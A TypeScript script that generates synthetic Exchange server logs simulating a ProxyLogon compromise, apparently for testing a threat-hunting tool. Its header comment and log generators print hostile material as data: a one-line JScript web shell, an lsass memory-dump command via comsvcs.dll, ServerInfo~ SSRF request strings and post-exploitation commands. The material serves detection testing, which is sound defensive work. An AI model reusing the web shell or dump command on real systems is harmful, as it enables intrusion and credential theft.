/**
 * `node bin/run-ts.js scripts/make-samples.ts [outDir]`: writes the demo archives of
 * `npm start` (samples/agency-demo/EXCH01-compromised.zip, EXCH02-clean.zip,
 * CAS03-compromised-front-end.zip and MBX04-compromised-back-end.zip).
 * Deterministic: a seeded generator, fixed times, fixed zip timestamps; re-running
 * it rewrites the same bytes (on the same Node/zlib).
 *
 * THE STORY (for the hunt authors: what the hunts should and should not find)
 * =========================================================================
 * Agency "demo" runs two Exchange 2016 CU19 servers (15.01.2176.002) for
 * corp.example.gov: EXCH01 (192.0.2.10) and EXCH02 (192.0.2.11). Internal
 * clients are 198.51.100.0/24, home/VPN users 203.0.113.0/24, the vulnerability
 * scanner 192.0.2.50. Every value is a documentation value (RFC 5737, example.gov)
 * except the published indicators named below. All times UTC.
 *
 * EXCH01 (compromised)
 * - Spring 2019, first contact: 2019-04-11..13, three requests from
 *   104.140.114.110 (Volexity IP list) in the HttpProxy Ecp logs: POST /ecp/x.js
 *   with AnchorMailbox `ServerInfo~a]@EXCH01.corp.example.gov:444/mapi/emsmdb/?#`
 *   (2019-04-11 and 04-13, HttpStatus 200) and `.../autodiscover/autodiscover.xml?#`
 *   (2019-04-12, 200). Then quiet.
 * - 2021-03-03, the ProxyLogon chain from 149.28.14.163 (Volexity IP list),
 *   user agent python-requests/2.25.1, empty AuthenticatedUser, HttpProxy/Ecp:
 *   03:21:08 ServerInfo~a]@EXCH01.corp.example.gov:444/autodiscover/autodiscover.xml?# (200)
 *   03:21:11 .../mapi/emsmdb/?# (200)
 *   03:21:14 .../ecp/proxyLogon.ecp?# (241)
 *   03:21:19 .../ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=...&schema=OABVirtualDirectory# (200)
 *   03:21:25 .../ecp/DDI/DDIService.svc/SetObject?...&schema=OABVirtualDirectory# (200)
 *   03:21:31 .../ecp/DDI/DDIService.svc/SetObject?...&schema=ResetOABVirtualDirectory# (200)
 *   IIS W3SVC1 (u_ex210303.log): POST /owa/auth/Current/themes/resources/logon.css
 *   (03:20:58, Bingbot agent in IIS "+" form) and POST /ecp/y.js (03:21:08..31,
 *   python-requests/2.25.1), both 200 from 149.28.14.163; web-shell use at
 *   03:30..03:42: POST /aspnet_client/supp0rt.aspx (antSword/v2.1, 200) and
 *   GET /aspnet_client/supp0rt.aspx?cmd=whoami. IIS W3SVC2 (back end, 444):
 *   POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory as
 *   CORP\EXCH01$ from 127.0.0.1, 200 (Sigma B5), and POST /ecp/proxyLogon.ecp (241).
 *   ECP Server log: 03:21:25 S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script
 *   language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>'
 *   (CSV-quoted, as Exchange writes it), among normal admin Get-* requests.
 *   OABGeneratorLog: 03:21:33 Download failed and temporary file
 *   'C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx' needs to be removed.
 *   Application events (eventlogs.zip!Application.json, PowerShell 5.1
 *   ConvertTo-Json redirected with ">", so UTF-16 LE): 03:19:44 MSExchange Unified
 *   Messaging, Id 1000, level 2, System.InvalidCastException (CVE-2021-26857).
 *   Sysmon (eventlogs.zip!Sysmon.csv, Export-Csv, ASCII): 03:21:33 event 11,
 *   w3wp.exe (MSExchangeECPAppPool) creates C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx;
 *   03:31:02 event 1, w3wp.exe -ap "MSExchangeOWAAppPool" -> cmd.exe `cmd /c whoami`;
 *   03:40:15 event 1, cmd.exe -> rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 652 C:\windows\temp\lsass.dmp full.
 *   File inventory (filehashes.csv, Get-FileHash): C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx
 *   with SHA-256 b75f163c... (MSTIC feed: both the path and the hash are published).
 * - Coverage gaps on purpose: HttpProxy logs cover 2019-04-10..2019-05-29 (every
 *   day; OWA and ECP only on most days) and 2021-02-20..2021-03-05; nothing in
 *   between. IIS covers 2021-02-25..2021-03-05 only; ECP, OABGenerator and the
 *   event exports 2021-03-01..2021-03-05; the hash inventory was taken 2021-03-06.
 *
 * EXCH02 (clean, busy): same periods as EXCH01 for 2021, about twice the traffic.
 * - Normal OWA/ECP/EWS/ActiveSync/MAPI/autodiscover traffic; crawlers GET static
 *   files (GET /owa/auth/Current/themes/resources/logon.css by Googlebot: a GET, not a POST).
 * - Failed exploit attempts from a mass scanner 203.0.113.77: AnchorMailbox
 *   `ServerInfo~a]@EXCH02.corp.example.gov:444/autodiscover/autodiscover.xml?#` only
 *   (TPL excludes them: informational), HttpStatus 500.
 * - The localhost NSE-checker pattern from the scanner 192.0.2.50: GET /owa/auth/x.js
 *   with AnchorMailbox `ServerInfo~localhost/owa/auth/logon.aspx?~3` (excluded by TPL).
 * - Admins run Set-OabVirtualDirectory with valid URLs (ECP Server log):
 *   `Set-OabVirtualDirectory.Identity='EXCH02\OAB (Default Web Site)'.ExternalUrl='https://mail.corp.example.gov/OAB'`.
 * - OABGeneratorLog: normal downloads, including "Download failed and temporary file
 *   '<install>ClientAccess\OAB\Temp\...' needs to be removed" (a legitimate path).
 * - Application.json: MSExchange Unified Messaging level 2 with System.OutOfMemoryException
 *   (not -26857: Sentinel excludes it) and normal events.
 * - No Sysmon. Security 4688 through NXLog JSON lines (Security.json): w3wp.exe ->
 *   csc.exe (ASP.NET compilation of the ECP app pool), normal admin processes.
 * - File inventory: McAfee zips in C:\ProgramData\McAfee\Agent\... (TPL "SuspiciousArchive"
 *   false positives, issue #311) and stock OWA files.
 * - False-positive bait, all below medium without a CVE hit on the host: C:\ProgramData\logs.zip
 *   and a support dump C:\Windows\Temp\lsass_210302_101502.dmp in the inventory; an EWS
 *   integration (python-requests/2.25.1 from 198.51.100.60) posting to /EWS/Exchange.asmx;
 *   exadmin's routine PsExec64.exe \\exch01..., net group "Domain Admins" exadmin2 /add /domain,
 *   net localgroup "Remote Desktop Users" helpdesk2 /add and an eDiscovery
 *   New-MailboxExportRequest to \\FS01\exports (Security 4688 in the NXLog file).
 *
 * CAS03 (front end, 192.0.2.13) and MBX04 (its mailbox back end, 192.0.2.14, Exchange on D:), a
 * second site exploited with public exploit code on 2021-03-04 from 165.232.154.116 (FireEye):
 * - CAS03 HttpProxy/Ecp (2021-03-01..03-05, light traffic): 08:10:02..13 POST /ecp/Zk3pWq9a.js,
 *   ExchangeServicesClient/0.0.0.0, anchors `ServerInfo~Admin@mbx04.corp.example.gov:444/...`
 *   ending in `a=~1942062522` (no '#'), TargetServer mbx04.corp.example.gov: autodiscover, mapi,
 *   proxyLogon.ecp (241), GetObject, SetObject, SetObject?schema=ResetOABVirtualDirectory&...
 * - MBX04, events exported with NXLog (JSON lines, eventlogs/nxlog.json): 08:10:14 Sysmon 11,
 *   w3wp.exe writes D:\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\Zk3pWq9a.aspx; 08:31:40
 *   Sysmon 1, w3wp.exe (MSExchangeOWAAppPool) -> cmd.exe China Chopper `&whoami&echo [S]`;
 *   08:33:05 Security 4688 net group "Exchange Organization administrators" administrator /del.
 * - The chain hunt joins them through the anchor's host: CAS03 -> MBX04. No IIS, ECP,
 *   OABGenerator or inventory on this pair (the verdict says so).
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import {
  HTTPPROXY_FIELDS_2016_CU23,
  IIS_EXCHANGE_FIELDS,
  OAB_EXTERNAL_URL_PAYLOAD,
  WINEVENT_CSV_COLUMNS,
  convertToJson,
  csvField,
  csvQuoted,
  ecpHeader,
  httpProxyHeader,
  httpProxyLine,
  httpProxyRequest,
  iisHeader,
  iisLine,
  security4688Message,
  sysmon11Message,
  sysmon1Message,
  winEventCsvRow,
  winEventObject,
} from '../testkit/raw-generators';

// ---------------------------------------------------------------- zip writer

interface ZipFile {
  readonly name: string;
  readonly data: Buffer;
  /** Entry time (written as DOS time from the UTC fields, so the bytes do not depend on the time zone). */
  readonly mtime: Date;
}

/** A minimal deterministic zip writer (deflate, UTF-8 names, no extra fields). */
function zip(files: readonly ZipFile[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const f of files) {
    const name = Buffer.from(f.name, 'utf8');
    const deflated = zlib.deflateRawSync(f.data, { level: 9 });
    const crc = zlib.crc32(f.data);
    const d = f.mtime;
    const time = (d.getUTCHours() << 11) | (d.getUTCMinutes() << 5) | Math.floor(d.getUTCSeconds() / 2);
    const date = ((d.getUTCFullYear() - 1980) << 9) | ((d.getUTCMonth() + 1) << 5) | d.getUTCDate();
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(time, 10);
    local.writeUInt16LE(date, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(deflated.length, 18);
    local.writeUInt32LE(f.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    parts.push(local, name, deflated);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0);
    cd.writeUInt16LE(0x0314, 4);
    cd.writeUInt16LE(20, 6);
    cd.writeUInt16LE(0x0800, 8);
    cd.writeUInt16LE(8, 10);
    cd.writeUInt16LE(time, 12);
    cd.writeUInt16LE(date, 14);
    cd.writeUInt32LE(crc, 16);
    cd.writeUInt32LE(deflated.length, 20);
    cd.writeUInt32LE(f.data.length, 24);
    cd.writeUInt16LE(name.length, 28);
    cd.writeUInt32LE((0o100644 << 16) >>> 0, 38);
    cd.writeUInt32LE(offset, 42);
    central.push(cd, name);
    offset += 30 + name.length + deflated.length;
  }
  const cdBuf = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(cdBuf.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, cdBuf, end]);
}

// ---------------------------------------------------------------- helpers

/** mulberry32: small seeded PRNG, so every run writes the same logs. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Rand = () => number;
const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
const int = (r: Rand, lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));
const hex = (r: Rand, n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[Math.floor(r() * 16)]).join('');
const guid = (r: Rand): string => `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-a${hex(r, 3)}-${hex(r, 12)}`;
const iso = (ms: number): string => new Date(ms).toISOString();
const crlf = (lines: readonly string[]): Buffer => Buffer.from(`${lines.join('\r\n')}\r\n`, 'utf8');
const utf16le = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const DAY = 86_400_000;

function days(from: string, to: string, keep: (d: Date) => boolean = () => true): number[] {
  const out: number[] = [];
  for (let t = Date.parse(`${from}T00:00:00Z`); t <= Date.parse(`${to}T00:00:00Z`); t += DAY) if (keep(new Date(t))) out.push(t);
  return out;
}

const ymdh = (ms: number): string => iso(ms).slice(0, 13).replace(/[-T]/g, '');
const yymmdd = (ms: number): string => iso(ms).slice(2, 10).replace(/-/g, '');

interface Server {
  readonly name: string;
  readonly ip: string;
  readonly fqdn: string;
  /** Traffic multiplier. */
  readonly load: number;
}

const EXCH01: Server = { name: 'EXCH01', ip: '192.0.2.10', fqdn: 'exch01.corp.example.gov', load: 1 };
const EXCH02: Server = { name: 'EXCH02', ip: '192.0.2.11', fqdn: 'exch02.corp.example.gov', load: 2 };
/** The second site: a front end (Client Access) and the mailbox back end it proxies to. */
const CAS03: Server = { name: 'CAS03', ip: '192.0.2.13', fqdn: 'cas03.corp.example.gov', load: 0.5 };
const MBX04: Server = { name: 'MBX04', ip: '192.0.2.14', fqdn: 'mbx04.corp.example.gov', load: 0.5 };

const USERS = ['jdoe', 'asmith', 'bwong', 'cgarcia', 'dpatel', 'ekim', 'fmuller', 'gnovak', 'hsato', 'ilopez', 'jokafor', 'kberg'];
const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.182 Safari/537.36 Edg/88.0.705.81',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15',
];
const OUTLOOK_UA = 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)';
const EAS_UAS = [
  'Apple-iPhone12C1/1803.1',
  'Apple-iPad8C1/1803.1',
  'Android-SAMSUNG-SM-G991U/101.1',
  'Outlook-iOS/723.4027091.prod.iphone (4.2109.0)',
];
const CRAWLER_UAS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
];

/** Per-user stable values (a session canary, a mailbox GUID, a phone), as in real logs. */
const perUser = (seed: number, n: number) => {
  const r = rng(seed);
  return new Map(USERS.map((u) => [u, hex(r, n)]));
};
const CANARIES = perUser(11, 40);
const MAILBOXES = perUser(12, 32);
const DEVICES = perUser(13, 16);
const canaryOf = (u: string): string => CANARIES.get(u)!;
const mailboxOf = (u: string): string => {
  const h = MAILBOXES.get(u)!;
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}`;
};
const deviceOf = (u: string): string => DEVICES.get(u)!.toUpperCase();

type Protocol = 'Owa' | 'Ecp' | 'Ews' | 'Eas' | 'Mapi' | 'Autodiscover';

interface Req {
  readonly protocol: Protocol;
  readonly method: string;
  readonly stem: string;
  readonly query: string;
  readonly ua: string;
  readonly user: string;
  readonly ip: string;
  readonly status: number;
}

/** One normal request of a protocol. */
function normalRequest(r: Rand, protocol: Protocol): Req {
  const user = pick(r, USERS);
  const internal = r() < 0.7;
  const ip = internal ? `198.51.100.${int(r, 20, 220)}` : `203.0.113.${int(r, 10, 60)}`;
  const status = r() < 0.04 ? 401 : r() < 0.03 ? 302 : 200;
  switch (protocol) {
    case 'Owa': {
      const stem = pick(r, [
        '/owa/service.svc',
        '/owa/service.svc',
        '/owa/',
        '/owa/sessiondata.ashx',
        '/owa/ev.owa2',
        '/owa/auth/logon.aspx',
        '/owa/auth.owa',
      ]);
      const query =
        stem === '/owa/service.svc'
          ? `action=${pick(r, ['GetItem', 'FindItem', 'FindConversation', 'GetOwaUserConfiguration', 'SubscribeToNotification'])}&EP=1&ID=-${int(r, 1, 99)}&AC=1`
          : stem === '/owa/auth/logon.aspx'
            ? 'url=https%3a%2f%2fmail.corp.example.gov%2fowa%2f&reason=0'
            : '';
      return {
        protocol,
        method: stem === '/owa/' || stem === '/owa/auth/logon.aspx' ? 'GET' : 'POST',
        stem,
        query,
        ua: pick(r, BROWSER_UAS),
        user,
        ip,
        status,
      };
    }
    case 'Ecp': {
      const stem = pick(r, [
        '/ecp/',
        '/ecp/RulesEditor/InboxRules.svc/GetList',
        '/ecp/PersonalSettings/Accounts.svc/GetObject',
        '/ecp/DDI/DDIService.svc/GetList',
        '/ecp/Organize/DeliveryReports.svc/GetList',
      ]);
      return {
        protocol,
        method: stem === '/ecp/' ? 'GET' : 'POST',
        stem,
        query: stem === '/ecp/' ? '' : `msExchEcpCanary=${canaryOf(user)}`,
        ua: pick(r, BROWSER_UAS),
        user,
        ip,
        status,
      };
    }
    case 'Ews':
      return {
        protocol,
        method: 'POST',
        stem: '/EWS/Exchange.asmx',
        query: '',
        ua: r() < 0.7 ? OUTLOOK_UA : 'ExchangeServicesClient/15.01.2176.002',
        user,
        ip,
        status,
      };
    case 'Eas':
      return {
        protocol,
        method: 'POST',
        stem: '/Microsoft-Server-ActiveSync/default.eas',
        query: `Cmd=${pick(r, ['Sync', 'Ping', 'FolderSync', 'ItemOperations'])}&User=${user}&DeviceId=${deviceOf(user)}&DeviceType=iPhone`,
        ua: pick(r, EAS_UAS),
        user,
        ip,
        status,
      };
    case 'Mapi':
      return {
        protocol,
        method: 'POST',
        stem: '/mapi/emsmdb/',
        query: `mailboxId=${mailboxOf(user)}@corp.example.gov`,
        ua: OUTLOOK_UA,
        user,
        ip,
        status,
      };
    case 'Autodiscover':
      return { protocol, method: 'POST', stem: '/Autodiscover/Autodiscover.xml', query: '', ua: OUTLOOK_UA, user, ip, status };
  }
}

// ---------------------------------------------------------------- HttpProxy

interface ProxyRow {
  readonly time: number;
  readonly values: Record<string, string | number>;
}

function proxyValues(r: Rand, s: Server, time: number, q: Req): Record<string, string | number> {
  const authed = q.status !== 401;
  return httpProxyRequest({
    DateTime: iso(time),
    RequestId: guid(r),
    ClientRequestId: q.protocol === 'Owa' ? guid(r) : '',
    Protocol: q.protocol,
    UrlHost: 'mail.corp.example.gov',
    UrlStem: q.stem,
    AuthenticationType: authed ? (q.protocol === 'Eas' ? 'Basic' : 'Negotiate') : '',
    IsAuthenticated: authed ? 'True' : 'False',
    AuthenticatedUser: authed ? `CORP\\${q.user}` : '',
    AnchorMailbox: `Smtp~${q.user}@corp.example.gov`,
    UserAgent: q.ua,
    ClientIpAddress: q.ip,
    ServerHostName: s.name,
    HttpStatus: q.status,
    BackEndStatus: q.status,
    Method: q.method,
    TargetServer: s.fqdn,
    ServerLocatorHost: s.fqdn,
    RequestBytes: int(r, 200, 4000),
    ResponseBytes: int(r, 300, 90000),
    TotalRequestTime: int(r, 3, 900),
    UrlQuery: q.query ? `?${q.query}` : '',
    GenericInfo: `;ActivityContextLifeTime=${int(r, 1, 900)};`,
    RoutingHint: 'Smtp-UserPrincipalName',
  });
}

/** Requests of one protocol on one day: a file per hour with traffic, like Exchange writes them. */
function httpProxyDay(r: Rand, s: Server, day: number, protocol: Protocol, perDay: number, extra: ProxyRow[], hours = 2): ZipFile[] {
  const rows: ProxyRow[] = [];
  // Traffic arrives in two busy hours per protocol and day (one hourly file each): enough
  // variety for the hunts while keeping the demo archives small.
  const busy = [int(r, 8, 11), int(r, 13, 16)].slice(0, hours);
  for (let i = 0; i < perDay; i++) {
    const time = day + pick(r, busy) * 3_600_000 + int(r, 0, 3_599_999);
    rows.push({ time, values: proxyValues(r, s, time, normalRequest(r, protocol)) });
  }
  rows.push(...extra);
  rows.sort((a, b) => a.time - b.time);
  const byHour = new Map<string, ProxyRow[]>();
  for (const row of rows) {
    const k = ymdh(row.time);
    (byHour.get(k) ?? byHour.set(k, []).get(k)!).push(row);
  }
  const files: ZipFile[] = [];
  for (const [hourKey, hourRows] of byHour) {
    const start = Date.parse(`${hourKey.slice(0, 4)}-${hourKey.slice(4, 6)}-${hourKey.slice(6, 8)}T${hourKey.slice(8, 10)}:00:00Z`);
    const lines = [
      ...httpProxyHeader(HTTPPROXY_FIELDS_2016_CU23, iso(start + 1234), '15.01.2176.002'),
      ...hourRows.map((x) => httpProxyLine(x.values)),
    ];
    files.push({
      name: `${s.name}/Logging/HttpProxy/${protocol}/HttpProxy_${hourKey}-1.LOG`,
      data: crlf(lines),
      mtime: new Date(hourRows[hourRows.length - 1].time),
    });
  }
  return files;
}

/**
 * A ServerInfo~ SSRF request as the proxy logs it. The anchor names `backend` (default: the server itself, the
 * one-server layout) with the `a]@` user of HAFNIUM's requests unless `user` is given (public exploit code: Admin@).
 */
function ssrf(
  r: Rand,
  s: Server,
  at: string,
  target: string,
  o: { ip: string; ua: string; status: number; stem?: string; backend?: string; user?: string },
): ProxyRow {
  const time = Date.parse(at);
  const backend = o.backend ?? `${s.name}.corp.example.gov`;
  return {
    time,
    values: httpProxyRequest({
      DateTime: iso(time),
      RequestId: guid(r),
      ClientRequestId: '',
      Protocol: 'Ecp',
      UrlHost: s.ip,
      UrlStem: o.stem ?? '/ecp/y.js',
      AuthenticationType: '',
      IsAuthenticated: 'False',
      AuthenticatedUser: '',
      AnchorMailbox: `ServerInfo~${o.user ?? 'a]'}@${backend}:444${target}`,
      UserAgent: o.ua,
      ClientIpAddress: o.ip,
      ServerHostName: s.name,
      HttpStatus: o.status,
      BackEndStatus: o.status,
      Method: 'POST',
      ProxyAction: 'Proxy',
      TargetServer: backend,
      RoutingType: 'ServerInfo',
      RoutingHint: 'ServerInfo-Header',
      TotalRequestTime: int(r, 40, 400),
      UrlQuery: '',
      GenericInfo: ';RequestRouted=True;',
      BackEndCookie: '',
      RequestBytes: int(r, 300, 2000),
      ResponseBytes: int(r, 200, 6000),
    }),
  };
}

function httpProxyLogs(r: Rand, s: Server, extras: Map<string, ProxyRow[]>, from2021 = '2021-02-20'): ZipFile[] {
  const protocols: [Protocol, number][] = [
    ['Owa', 14],
    ['Ecp', 4],
    ['Ews', 8],
    ['Eas', 10],
    ['Mapi', 8],
    ['Autodiscover', 5],
  ];
  // 2019: every day has a little OWA and ECP traffic (one hourly file each); the other protocols on a few days.
  const busy2019 = [
    '2019-04-10',
    '2019-04-11',
    '2019-04-12',
    '2019-04-13',
    '2019-04-22',
    '2019-04-29',
    '2019-05-06',
    '2019-05-13',
    '2019-05-20',
    '2019-05-29',
  ];
  const spring2019 = s.name === 'EXCH01' ? days('2019-04-10', '2019-05-29') : [];
  const march2021 = days(from2021, '2021-03-05');
  const files: ZipFile[] = [];
  for (const day of [...spring2019, ...march2021]) {
    const weekend = [0, 6].includes(new Date(day).getUTCDay());
    const in2019 = day < Date.parse('2020-01-01');
    const quiet = in2019 && !busy2019.includes(iso(day).slice(0, 10));
    for (const [protocol, n] of protocols) {
      if (quiet && protocol !== 'Owa' && protocol !== 'Ecp') continue;
      const key = `${iso(day).slice(0, 10)}/${protocol}`;
      const count = Math.max(1, Math.round(n * s.load * (weekend ? 0.3 : 1) * (0.7 + r() * 0.6) * (in2019 ? (quiet ? 0.25 : 0.5) : 1)));
      files.push(...httpProxyDay(r, s, day, protocol, count, extras.get(key) ?? [], quiet ? 1 : 2));
    }
  }
  return files;
}

// ---------------------------------------------------------------- IIS

interface IisRow {
  readonly time: number;
  readonly values: Record<string, string | number | null>;
}

function iisNormal(r: Rand, s: Server, time: number, site: 'W3SVC1' | 'W3SVC2'): IisRow {
  const q = normalRequest(r, pick(r, ['Owa', 'Owa', 'Owa', 'Ews', 'Eas', 'Eas', 'Mapi', 'Autodiscover', 'Ecp'] as Protocol[]));
  const d = iso(time);
  const front = site === 'W3SVC1';
  return {
    time,
    values: {
      date: d.slice(0, 10),
      time: d.slice(11, 19),
      's-ip': front ? s.ip : s.ip,
      'cs-method': q.method,
      'cs-uri-stem': q.stem,
      'cs-uri-query': q.query || null,
      's-port': front ? 443 : 444,
      'cs-username': q.status === 401 ? null : `CORP\\${q.user}`,
      'c-ip': front ? q.ip : s.ip,
      'cs(User-Agent)': front ? q.ua : `${q.ua}`,
      'cs(Referer)': q.protocol === 'Owa' && r() < 0.3 ? 'https://mail.corp.example.gov/owa/' : null,
      'sc-status': q.status,
      'sc-substatus': 0,
      'sc-win32-status': 0,
      'time-taken': int(r, 0, 700),
    },
  };
}

function iisRow(at: string, v: Record<string, string | number | null>): IisRow {
  const time = Date.parse(at);
  const d = iso(time);
  return {
    time,
    values: {
      'cs-uri-query': null,
      'cs-username': null,
      'cs(Referer)': null,
      'sc-substatus': 0,
      'sc-win32-status': 0,
      'time-taken': 31,
      ...v,
      date: d.slice(0, 10),
      time: d.slice(11, 19),
    },
  };
}

function iisLogs(r: Rand, s: Server, extras: Map<string, IisRow[]>): ZipFile[] {
  const files: ZipFile[] = [];
  for (const day of days('2021-02-25', '2021-03-05')) {
    for (const site of ['W3SVC1', 'W3SVC2'] as const) {
      const key = `${site}/${iso(day).slice(0, 10)}`;
      const n = Math.round((site === 'W3SVC1' ? 90 : 30) * s.load * (0.7 + r() * 0.6));
      const rows: IisRow[] = [];
      for (let i = 0; i < n; i++) rows.push(iisNormal(r, s, day + int(r, 0, DAY - 1), site));
      if (site === 'W3SVC1') {
        // Crawlers fetch static files (GET, never POST).
        for (let i = 0; i < Math.round(3 * s.load); i++) {
          rows.push(
            iisRow(iso(day + int(r, 0, DAY - 1)), {
              's-ip': s.ip,
              'cs-method': 'GET',
              'cs-uri-stem': pick(r, [
                '/owa/auth/Current/themes/resources/logon.css',
                '/owa/auth/Current/themes/resources/favicon.ico',
                '/robots.txt',
              ]),
              's-port': 443,
              'c-ip': `203.0.113.${int(r, 100, 120)}`,
              'cs(User-Agent)': pick(r, CRAWLER_UAS),
              'sc-status': 200,
            }),
          );
        }
      }
      rows.push(...(extras.get(key) ?? []));
      rows.sort((a, b) => a.time - b.time);
      // An IIS restart at noon repeats the header block.
      const noon = day + DAY / 2;
      const lines = [...iisHeader(IIS_EXCHANGE_FIELDS, `${iso(day).slice(0, 10)} 00:00:00`)];
      let restarted = false;
      for (const row of rows) {
        if (!restarted && row.time >= noon) {
          lines.push(...iisHeader(IIS_EXCHANGE_FIELDS, `${iso(noon).slice(0, 10)} 12:00:00`));
          restarted = true;
        }
        lines.push(iisLine(row.values));
      }
      const name = `u_ex${yymmdd(day)}.log`;
      files.push({
        name: `${s.name}/inetpub/logs/LogFiles/${site}/${name}.gz`,
        data: zlib.gzipSync(crlf(lines), { level: 9 }),
        mtime: new Date(day + DAY - 1000),
      });
    }
  }
  return files;
}

// ---------------------------------------------------------------- ECP, OAB

function ecpLog(r: Rand, s: Server, day: number, special: [string, [string, string][]][]): ZipFile {
  const admins = [
    ['admin', 'S-1-5-21-3623811015-3361044348-30300820-1104'],
    ['exadmin', 'S-1-5-21-3623811015-3361044348-30300820-1107'],
  ];
  const rows: [number, string][] = [];
  for (let i = 0; i < 20 * s.load; i++) {
    const [, sid] = pick(r, admins);
    const cmd = pick(r, [
      'Get-InboxRule',
      'Get-Mailbox',
      'Get-MailboxStatistics',
      'Get-OwaVirtualDirectory',
      'Get-ExchangeServer',
      'Get-OabVirtualDirectory',
      'Get-MessageTrackingReport',
    ]);
    const t = day + int(r, 7, 18) * 3_600_000 + int(r, 0, 3_599_999);
    rows.push([
      t,
      ecpData(r, s, t, sid, cmd, `/ecp/DDI/DDIService.svc/GetList?msExchEcpCanary=${canaryOf(pick(r, USERS))}&schema=${cmd.slice(4)}`),
    ]);
  }
  for (const [at, items] of special)
    rows.push([Date.parse(at), [`${at}`, s.name, 'ECP.Request', csvField(items.map(([k, v]) => `S:${k}=${v}`).join(';'))].join(',')]);
  rows.sort((a, b) => a[0] - b[0]);
  return {
    name: `${s.name}/Logging/ECP/Server/ECPServer${iso(day).slice(0, 10).replace(/-/g, '')}-1.LOG`,
    data: crlf([...ecpHeader(), ...rows.map(([, l]) => l)]),
    mtime: new Date(day + DAY - 1000),
  };
}

function ecpData(r: Rand, s: Server, t: number, sid: string, cmd: string, url: string): string {
  const items: [string, string][] = [
    ['TIME', String(int(r, 5, 400))],
    ['SID', sid],
    ['USID', sid],
    ['REQID', guid(r)],
    ['VER', '15.1.2176.2'],
    ['CMD', cmd],
    ['URL', url],
    ['REFERRER', 'https://mail.corp.example.gov/ecp/'],
    ['ACTID', guid(r)],
  ];
  return [iso(t), s.name, 'ECP.Request', csvField(items.map(([k, v]) => `S:${k}=${v}`).join(';'))].join(',');
}

const INSTALL = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\';

function oabLog(r: Rand, s: Server, day: number, special: [string, string][]): ZipFile {
  const lines: [number, string][] = [];
  for (let h = 0; h < 24; h += 8) {
    const t0 = day + h * 3_600_000 + int(r, 0, 600_000);
    const oabGuid = '4f0a2c3e-7d1b-4e8a-9c6f-2b5d8e1a3c7f';
    lines.push([t0, `${iso(t0)} [OABGen] OABGeneratorAssistant: starting generation of OAB "\\Default Offline Address Book" (${oabGuid})`]);
    const file = `${INSTALL}ClientAccess\\OAB\\Temp\\${hex(r, 8)}.lzx`;
    lines.push([t0 + 5000, `${iso(t0 + 5000)} [OABGen] Downloading ${file}`]);
    if (r() < 0.25) lines.push([t0 + 9000, `${iso(t0 + 9000)} [OABGen] Download failed and temporary file '${file}' needs to be removed`]);
    lines.push([t0 + 60_000, `${iso(t0 + 60_000)} [OABGen] Generation of OAB ${oabGuid} completed: 1 full, 3 differential files`]);
    lines.push([t0 + 60_001, '    Statistics: addresses=412, templates=2, elapsed=00:00:59']);
  }
  for (const [at, text] of special) lines.push([Date.parse(at), `${at} [OABGen] ${text}`]);
  lines.sort((a, b) => a[0] - b[0]);
  return {
    name: `${s.name}/Logging/OABGeneratorLog/OABGeneratorLog_${iso(day).slice(0, 10).replace(/-/g, '')}-1.LOG`,
    data: crlf(lines.map(([, l]) => l)),
    mtime: new Date(day + DAY - 1000),
  };
}

// ---------------------------------------------------------------- Windows events

/** Windows PowerShell 5.1 prints `"key":  value` (two spaces) in ConvertTo-Json output. */
function ps51Json(objects: Record<string, unknown>[]): string {
  return convertToJson(objects)
    .replace(/^(\s*"[^"\n]*"):\s/gm, '$1:  ')
    .replace(/\n/g, '\r\n');
}

